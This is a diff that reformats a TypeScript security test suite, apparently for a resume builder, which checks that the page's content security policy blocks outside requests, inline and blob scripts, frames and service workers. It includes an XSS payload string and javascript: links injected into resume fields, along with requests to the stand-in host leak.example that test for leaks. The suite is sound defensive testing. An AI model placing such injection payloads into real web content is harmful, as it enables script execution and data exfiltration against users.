@@ -9,24 +9,84 @@ const requests: readonly [string, () => unknown][] = [
   ['a socket', () => new WebSocket('wss://leak.example/socket')],
   ['a stream of events', () => new EventSource('https://leak.example/events')],
   ['a picture', () => (new Image().src = 'https://leak.example/image')],
-  ['a style sheet', () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://leak.example/style' }))],
+  [
+    'a style sheet',
+    () =>
+      document.head.append(
+        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://leak.example/style' }),
+      ),
+  ],
   ['a font', () => new FontFace('leak', 'url(https://leak.example/font)').load().catch(() => '')],
-  ['a page to be fetched early', () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://leak.example/prefetch' }))],
-  ['a script of another site', () => document.head.append(Object.assign(document.createElement('script'), { src: 'https://leak.example/script' }))],
+  [
+    'a page to be fetched early',
+    () =>
+      document.head.append(
+        Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'https://leak.example/prefetch' }),
+      ),
+  ],
+  [
+    'a script of another site',
+    () => document.head.append(Object.assign(document.createElement('script'), { src: 'https://leak.example/script' })),
+  ],
   ['a video', () => (document.createElement('video').src = 'https://leak.example/video')],
 ];
 
 /** What the policy of the page refuses by itself: the directive, and an element or a script that it is for. */
 const forbidden: readonly [string, string, () => unknown][] = [
-  ['an inline script', 'script-src-elem', () => document.head.append(Object.assign(document.createElement('script'), { textContent: 'globalThis.pwned = "inline"' }))],
-  ['a script in an attribute', 'script-src-attr', () => document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.pwned = \'attribute\'">')],
-  ['a script of a data: address', 'script-src-elem', () => document.head.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,globalThis.pwned="data"' }))],
-  ['a script of a blob: address', 'script-src-elem', () => document.head.append(Object.assign(document.createElement('script'), { src: URL.createObjectURL(new Blob(['globalThis.pwned = "blob"'])) }))],
+  [
+    'an inline script',
+    'script-src-elem',
+    () =>
+      document.head.append(
+        Object.assign(document.createElement('script'), { textContent: 'globalThis.pwned = "inline"' }),
+      ),
+  ],
+  [
+    'a script in an attribute',
+    'script-src-attr',
+    () =>
+      document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="globalThis.pwned = \'attribute\'">'),
+  ],
+  [
+    'a script of a data: address',
+    'script-src-elem',
+    () =>
+      document.head.append(
+        Object.assign(document.createElement('script'), { src: 'data:text/javascript,globalThis.pwned="data"' }),
+      ),
+  ],
+  [
+    'a script of a blob: address',
+    'script-src-elem',
+    () =>
+      document.head.append(
+        Object.assign(document.createElement('script'), {
+          src: URL.createObjectURL(new Blob(['globalThis.pwned = "blob"'])),
+        }),
+      ),
+  ],
   ['a worker of a blob: address', 'worker-src', () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))],
-  ['a style in an attribute', 'style-src-attr', () => document.body.insertAdjacentHTML('beforeend', '<b style="background: url(https://leak.example/attribute)">x</b>')],
-  ['a frame of another site', 'frame-src', () => document.body.insertAdjacentHTML('beforeend', '<iframe src="https://leak.example/frame"></iframe>')],
-  ['an embedded object', 'object-src', () => document.body.insertAdjacentHTML('beforeend', '<object data="https://leak.example/object"></object>')],
-  ['another base of all addresses', 'base-uri', () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://leak.example/' }))],
+  [
+    'a style in an attribute',
+    'style-src-attr',
+    () =>
+      document.body.insertAdjacentHTML('beforeend', '<b style="background: url(https://leak.example/attribute)">x</b>'),
+  ],
+  [
+    'a frame of another site',
+    'frame-src',
+    () => document.body.insertAdjacentHTML('beforeend', '<iframe src="https://leak.example/frame"></iframe>'),
+  ],
+  [
+    'an embedded object',
+    'object-src',
+    () => document.body.insertAdjacentHTML('beforeend', '<object data="https://leak.example/object"></object>'),
+  ],
+  [
+    'another base of all addresses',
+    'base-uri',
+    () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://leak.example/' })),
+  ],
   [
     'a form that posts to another site',
     'form-action',
@@ -38,7 +98,8 @@ const forbidden: readonly [string, string, () => unknown][] = [
 ];
 
 /** Every text of a document, as somebody writes it who has been told that it ends up in HTML. */
-const payload = '"><img src=https://leak.example/text onerror="globalThis.pwned=`text`"><script>globalThis.pwned="text"</script>';
+const payload =
+  '"><img src=https://leak.example/text onerror="globalThis.pwned=`text`"><script>globalThis.pwned="text"</script>';
 
 export const content: readonly Attack[] = [
   ...requests.map(([name, ask]) =>
@@ -75,7 +136,17 @@ export const content: readonly Attack[] = [
     return '';
   }),
   attack('a service worker that would stay', async ({ page }) =>
-    gain(await page.evaluate(() => navigator.serviceWorker.register(URL.createObjectURL(new Blob(['onfetch = () => 1'], { type: 'text/javascript' }))).then(() => true, () => false)), 'it was registered'),
+    gain(
+      await page.evaluate(() =>
+        navigator.serviceWorker
+          .register(URL.createObjectURL(new Blob(['onfetch = () => 1'], { type: 'text/javascript' })))
+          .then(
+            () => true,
+            () => false,
+          ),
+      ),
+      'it was registered',
+    ),
   ),
   attack('the page takes another domain', async ({ page }) =>
     gain(
@@ -95,7 +166,9 @@ export const content: readonly Attack[] = [
     const before = (await attempts()).length;
     await page.evaluate(async () => {
       await fetch('https://leak.example/bare', { mode: 'no-cors' }).catch(() => '');
-      await new Promise((resolve) => Object.assign(new Image(), { onerror: resolve, onload: resolve, src: 'https://leak.example/bare.png' }));
+      await new Promise((resolve) =>
+        Object.assign(new Image(), { onerror: resolve, onload: resolve, src: 'https://leak.example/bare.png' }),
+      );
     });
     const asked = (await attempts()).slice(before);
     return gain(asked.length < 2, 'the program was not asked');
@@ -113,19 +186,33 @@ export const content: readonly Attack[] = [
     const { call, home, page } = computer;
     const doc = createResume({ title: payload }, '2026-01-01T00:00:00.000Z');
     doc.slug = 'attacked';
-    doc.basics = { ...doc.basics, fullName: payload, headline: payload, email: payload, phone: payload, links: [{ id: newId(), label: payload, url: 'javascript:globalThis.pwned="link"' }] };
+    doc.basics = {
+      ...doc.basics,
+      fullName: payload,
+      headline: payload,
+      email: payload,
+      phone: payload,
+      links: [{ id: newId(), label: payload, url: 'javascript:globalThis.pwned="link"' }],
+    };
     doc.summary = `${payload} [link](javascript:globalThis.pwned="markdown")`;
     doc.target.jobTitle = payload;
     const created = await call('documents.create', doc);
     if (!created.ok) return `the document was not taken, and this row proves nothing: ${created.error.message}`;
     const shown = (): Promise<unknown> =>
-      page.waitForFunction(() => [...document.querySelectorAll('input, textarea, main')].some((field) => ('value' in field ? String(field.value) : field.textContent).includes('onerror')));
+      page.waitForFunction(() =>
+        [...document.querySelectorAll('input, textarea, main')].some((field) =>
+          ('value' in field ? String(field.value) : field.textContent).includes('onerror'),
+        ),
+      );
     await shown();
     await go(page, '/resume/builder/attacked/summary');
     await page.waitForURL(/attacked/);
     await shown();
     await page.waitForTimeout(200);
-    const harm = [await tried(computer, 'leak.example/text'), await page.evaluate(() => (globalThis as { pwned?: string }).pwned ?? '')];
+    const harm = [
+      await tried(computer, 'leak.example/text'),
+      await page.evaluate(() => (globalThis as { pwned?: string }).pwned ?? ''),
+    ];
     await call('documents.purge', doc.id);
     await home();
     return harm.join('');
